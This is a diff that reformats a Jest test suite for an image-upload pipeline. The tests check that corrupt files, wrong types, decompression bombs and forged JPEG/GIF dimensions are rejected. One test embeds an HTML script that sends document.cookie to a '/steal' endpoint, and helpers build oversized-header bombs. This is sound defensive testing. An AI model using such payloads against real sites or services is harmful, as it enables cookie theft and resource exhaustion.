@@ -13,7 +13,7 @@ const CASE_MS = 10_000;
 /** Rewrites the SOF0 frame size of a baseline JPEG: the header promises far more pixels than the data holds. */
 function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
   const out = Buffer.from(jpeg);
-  for (let i = 2; i + 9 < out.length; ) {
+  for (let i = 2; i + 9 < out.length;) {
     if (out[i] !== 0xff) throw new Error('not at a marker');
     const marker = out[i + 1];
     const len = out.readUInt16BE(i + 2);
@@ -48,52 +48,86 @@ function gifClaiming(gif: Buffer, width: number, height: number, frame: boolean)
 }
 
 describe('bad images end failed, with an event naming the problem', () => {
-  test('zero bytes → empty_file', async () => {
-    const h = harness();
-    expectFailed(await within(CASE_MS, h.run(Buffer.alloc(0))), 'empty_file');
-  }, CASE_MS);
+  test(
+    'zero bytes → empty_file',
+    async () => {
+      const h = harness();
+      expectFailed(await within(CASE_MS, h.run(Buffer.alloc(0))), 'empty_file');
+    },
+    CASE_MS,
+  );
 
-  test('a truncated JPEG → corrupt_image', async () => {
-    const h = harness();
-    expectFailed(await within(CASE_MS, h.run(await truncatedJpeg())), 'corrupt_image');
-  }, CASE_MS);
+  test(
+    'a truncated JPEG → corrupt_image',
+    async () => {
+      const h = harness();
+      expectFailed(await within(CASE_MS, h.run(await truncatedJpeg())), 'corrupt_image');
+    },
+    CASE_MS,
+  );
 
-  test('a JPEG with corrupt scan data (samples/corrupt.jpg) → corrupt_image', async () => {
-    const h = harness();
-    expectFailed(await within(CASE_MS, h.run(readSample('corrupt.jpg'))), 'corrupt_image');
-  }, CASE_MS);
+  test(
+    'a JPEG with corrupt scan data (samples/corrupt.jpg) → corrupt_image',
+    async () => {
+      const h = harness();
+      expectFailed(await within(CASE_MS, h.run(readSample('corrupt.jpg'))), 'corrupt_image');
+    },
+    CASE_MS,
+  );
 
-  test('random bytes named photo.jpg and sent as image/jpeg → unsupported_type', async () => {
-    const h = harness();
-    const r = await within(CASE_MS, h.run(await randomBytes(64 * 1024, 7), { filename: 'photo.jpg', contentType: 'image/jpeg' }));
-    expectFailed(r, 'unsupported_type');
-    expect(r.manifest.source.filename).toBe('photo.jpg');
-  }, CASE_MS);
+  test(
+    'random bytes named photo.jpg and sent as image/jpeg → unsupported_type',
+    async () => {
+      const h = harness();
+      const r = await within(CASE_MS, h.run(await randomBytes(64 * 1024, 7), { filename: 'photo.jpg', contentType: 'image/jpeg' }));
+      expectFailed(r, 'unsupported_type');
+      expect(r.manifest.source.filename).toBe('photo.jpg');
+    },
+    CASE_MS,
+  );
 
-  test('an HTML page with a script, uploaded as image/png → unsupported_type', async () => {
-    const h = harness();
-    const html = Buffer.from('<!doctype html><html><body><script>fetch("http://127.0.0.1:1/steal?c="+document.cookie)</script></body></html>');
-    const r = await within(CASE_MS, h.run(html, { contentType: 'image/png', filename: 'cat.png' }));
-    expectFailed(r, 'unsupported_type');
-    expect(r.manifest.reason?.message).toContain('text/html');
-  }, CASE_MS);
+  test(
+    'an HTML page with a script, uploaded as image/png → unsupported_type',
+    async () => {
+      const h = harness();
+      const html = Buffer.from('<!doctype html><html><body><script>fetch("http://127.0.0.1:1/steal?c="+document.cookie)</script></body></html>');
+      const r = await within(CASE_MS, h.run(html, { contentType: 'image/png', filename: 'cat.png' }));
+      expectFailed(r, 'unsupported_type');
+      expect(r.manifest.reason?.message).toContain('text/html');
+    },
+    CASE_MS,
+  );
 
-  test('a PDF → unsupported_type', async () => {
-    const h = harness();
-    expectFailed(await within(CASE_MS, h.run(Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n'))), 'unsupported_type');
-  }, CASE_MS);
+  test(
+    'a PDF → unsupported_type',
+    async () => {
+      const h = harness();
+      expectFailed(await within(CASE_MS, h.run(Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n'))), 'unsupported_type');
+    },
+    CASE_MS,
+  );
 
-  test('a TIFF while TIFF is not allowed → type_not_allowed', async () => {
-    const h = harness();
-    const tiff = await sharp(await smallJpeg(64, 48)).tiff().toBuffer();
-    expectFailed(await within(CASE_MS, h.run(tiff, { contentType: 'image/tiff' })), 'type_not_allowed');
-  }, CASE_MS);
+  test(
+    'a TIFF while TIFF is not allowed → type_not_allowed',
+    async () => {
+      const h = harness();
+      const tiff = await sharp(await smallJpeg(64, 48))
+        .tiff()
+        .toBuffer();
+      expectFailed(await within(CASE_MS, h.run(tiff, { contentType: 'image/tiff' })), 'type_not_allowed');
+    },
+    CASE_MS,
+  );
 
-  test('SVG with the default settings → svg_not_allowed', async () => {
-    const h = harness();
-    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>');
-    expectFailed(await within(CASE_MS, h.run(svg, { contentType: 'image/svg+xml' })), 'svg_not_allowed');
-  }, CASE_MS);
+  test(
+    'SVG with the default settings → svg_not_allowed',
+    async () => {
+      const h = harness();
+      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>');
+      expectFailed(await within(CASE_MS, h.run(svg, { contentType: 'image/svg+xml' })), 'svg_not_allowed');
+    },
+    CASE_MS,
+  );
 
   describe('decompression bombs are refused from the header, before decoding', () => {
     let bomb: Buffer;
@@ -101,69 +135,106 @@ describe('bad images end failed, with an event naming the problem', () => {
       bomb = await decompressionBombPng(30000, 30000);
     }, 30_000);
 
-    test('a ~110 KB PNG declaring 30000×30000 (2.7 GB of RGB) → too_many_pixels in < 1 s, RSS barely moves', async () => {
-      expect(bomb.length).toBeLessThan(200 * 1024);
-      const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
-      expect([meta.width, meta.height]).toEqual([30000, 30000]);
-      const h = harness();
-      const info = await h.upload(bomb, { contentType: 'image/png' });
-      // Warm the code paths (module loading, first sharp call) so the measurement is the bomb alone.
-      await h.process({ bucket: info.bucket, key: info.key, generation: info.generation, force: true });
-      const { result, ms, rssGrowth } = await measure(() => h.process({ bucket: info.bucket, key: info.key, generation: info.generation, force: true }));
-      expect(result.outcome.status === 'failed' && result.outcome.manifest.reason?.code).toBe('too_many_pixels');
-      expect(ms).toBeLessThan(1000);
-      expect(rssGrowth).toBeLessThan(50 * 1024 * 1024);
-      const { event } = await h.notify(info.key.split('/').pop()!);
-      expect(event.data.reason?.code).toBe('too_many_pixels');
-      // Reported by the suite so the figures can be quoted.
-      process.stdout.write(`[hostile] bomb 30000x30000 PNG (${bomb.length} B): refused in ${ms.toFixed(1)} ms, RSS growth ${(rssGrowth / 1048576).toFixed(1)} MiB\n`);
-    }, CASE_MS);
+    test(
+      'a ~110 KB PNG declaring 30000×30000 (2.7 GB of RGB) → too_many_pixels in < 1 s, RSS barely moves',
+      async () => {
+        expect(bomb.length).toBeLessThan(200 * 1024);
+        const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
+        expect([meta.width, meta.height]).toEqual([30000, 30000]);
+        const h = harness();
+        const info = await h.upload(bomb, { contentType: 'image/png' });
+        // Warm the code paths (module loading, first sharp call) so the measurement is the bomb alone.
+        await h.process({ bucket: info.bucket, key: info.key, generation: info.generation, force: true });
+        const { result, ms, rssGrowth } = await measure(() => h.process({ bucket: info.bucket, key: info.key, generation: info.generation, force: true }));
+        expect(result.outcome.status === 'failed' && result.outcome.manifest.reason?.code).toBe('too_many_pixels');
+        expect(ms).toBeLessThan(1000);
+        expect(rssGrowth).toBeLessThan(50 * 1024 * 1024);
+        const { event } = await h.notify(info.key.split('/').pop()!);
+        expect(event.data.reason?.code).toBe('too_many_pixels');
+        // Reported by the suite so the figures can be quoted.
+        process.stdout.write(
+          `[hostile] bomb 30000x30000 PNG (${bomb.length} B): refused in ${ms.toFixed(1)} ms, RSS growth ${(rssGrowth / 1048576).toFixed(1)} MiB\n`,
+        );
+      },
+      CASE_MS,
+    );
 
-    test('the same bomb through the use case, with the full contract', async () => {
-      const h = harness();
-      expectFailed(await within(CASE_MS, h.run(bomb, { contentType: 'image/png' })), 'too_many_pixels');
-    }, CASE_MS);
+    test(
+      'the same bomb through the use case, with the full contract',
+      async () => {
+        const h = harness();
+        expectFailed(await within(CASE_MS, h.run(bomb, { contentType: 'image/png' })), 'too_many_pixels');
+      },
+      CASE_MS,
+    );
 
-    test('a JPEG header claiming 60000×60000 → too_many_pixels', async () => {
-      const h = harness();
-      expectFailed(await within(CASE_MS, h.run(jpegClaiming(await smallJpeg(64, 48), 60000, 60000))), 'too_many_pixels');
-    }, CASE_MS);
+    test(
+      'a JPEG header claiming 60000×60000 → too_many_pixels',
+      async () => {
+        const h = harness();
+        expectFailed(await within(CASE_MS, h.run(jpegClaiming(await smallJpeg(64, 48), 60000, 60000))), 'too_many_pixels');
+      },
+      CASE_MS,
+    );
 
-    test('a GIF whose screen and frame claim 65535×65535 → too_many_pixels', async () => {
-      const h = harness();
-      expectFailed(await within(CASE_MS, h.run(gifClaiming(await animatedGif(32, 32, 1), 65535, 65535, true), { contentType: 'image/gif' })), 'too_many_pixels');
-    }, CASE_MS);
+    test(
+      'a GIF whose screen and frame claim 65535×65535 → too_many_pixels',
+      async () => {
+        const h = harness();
+        expectFailed(
+          await within(CASE_MS, h.run(gifClaiming(await animatedGif(32, 32, 1), 65535, 65535, true), { contentType: 'image/gif' })),
+          'too_many_pixels',
+        );
+      },
+      CASE_MS,
+    );
 
-    test('a GIF whose logical screen alone claims 65535×65535 is rendered at its real 32×32 frame size', async () => {
-      const h = harness();
-      const r = await within(CASE_MS, h.run(gifClaiming(await animatedGif(32, 32, 1), 65535, 65535, false), { contentType: 'image/gif' }));
-      expect(r.outcome.status).toBe('processed');
-      expect(r.manifest.source).toMatchObject({ width: 32, height: 32 });
-    }, CASE_MS);
+    test(
+      'a GIF whose logical screen alone claims 65535×65535 is rendered at its real 32×32 frame size',
+      async () => {
+        const h = harness();
+        const r = await within(CASE_MS, h.run(gifClaiming(await animatedGif(32, 32, 1), 65535, 65535, false), { contentType: 'image/gif' }));
+        expect(r.outcome.status).toBe('processed');
+        expect(r.manifest.source).toMatchObject({ width: 32, height: 32 });
+      },
+      CASE_MS,
+    );
   });
 
-  test('more pixels than PIXELPIPE_MAX_INPUT_PIXELS → too_many_pixels', async () => {
-    const h = harness({ PIXELPIPE_MAX_INPUT_PIXELS: '100000' });
-    const r = await within(CASE_MS, h.run(await smallJpeg(640, 480)));
-    expectFailed(r, 'too_many_pixels');
-    expect(r.manifest.reason?.message).toContain('640x480');
-  }, CASE_MS);
+  test(
+    'more pixels than PIXELPIPE_MAX_INPUT_PIXELS → too_many_pixels',
+    async () => {
+      const h = harness({ PIXELPIPE_MAX_INPUT_PIXELS: '100000' });
+      const r = await within(CASE_MS, h.run(await smallJpeg(640, 480)));
+      expectFailed(r, 'too_many_pixels');
+      expect(r.manifest.reason?.message).toContain('640x480');
+    },
+    CASE_MS,
+  );
 
-  test('more bytes than PIXELPIPE_MAX_INPUT_BYTES (signed upload bound bypassed) → too_many_bytes, and the decoder never runs', async () => {
-    const render = jest.fn<ReturnType<ImageProcessor['render']>, Parameters<ImageProcessor['render']>>((...args) => processor.render(...args));
-    const h = harness({ PIXELPIPE_MAX_INPUT_BYTES: '10000' }, { processor: { render } });
-    const jpeg = await smallJpeg(640, 480);
-    expect(jpeg.length).toBeGreaterThan(10000);
-    const r = await within(CASE_MS, h.run(jpeg));
-    expectFailed(r, 'too_many_bytes');
-    expect(render).not.toHaveBeenCalled();
-    expect(r.manifest.source.bytes).toBe(jpeg.length);
-  }, CASE_MS);
+  test(
+    'more bytes than PIXELPIPE_MAX_INPUT_BYTES (signed upload bound bypassed) → too_many_bytes, and the decoder never runs',
+    async () => {
+      const render = jest.fn<ReturnType<ImageProcessor['render']>, Parameters<ImageProcessor['render']>>((...args) => processor.render(...args));
+      const h = harness({ PIXELPIPE_MAX_INPUT_BYTES: '10000' }, { processor: { render } });
+      const jpeg = await smallJpeg(640, 480);
+      expect(jpeg.length).toBeGreaterThan(10000);
+      const r = await within(CASE_MS, h.run(jpeg));
+      expectFailed(r, 'too_many_bytes');
+      expect(render).not.toHaveBeenCalled();
+      expect(r.manifest.source.bytes).toBe(jpeg.length);
+    },
+    CASE_MS,
+  );
 
-  test('an animated GIF with more frames than PIXELPIPE_MAX_FRAMES → too_many_frames', async () => {
-    const h = harness({ PIXELPIPE_MAX_FRAMES: '5' });
-    const r = await within(CASE_MS, h.run(await animatedGif(64, 48, 8), { contentType: 'image/gif' }));
-    expectFailed(r, 'too_many_frames');
-    expect(r.manifest.reason?.message).toContain('8 frames');
-  }, CASE_MS);
+  test(
+    'an animated GIF with more frames than PIXELPIPE_MAX_FRAMES → too_many_frames',
+    async () => {
+      const h = harness({ PIXELPIPE_MAX_FRAMES: '5' });
+      const r = await within(CASE_MS, h.run(await animatedGif(64, 48, 8), { contentType: 'image/gif' }));
+      expectFailed(r, 'too_many_frames');
+      expect(r.manifest.reason?.message).toContain('8 frames');
+    },
+    CASE_MS,
+  );
 });
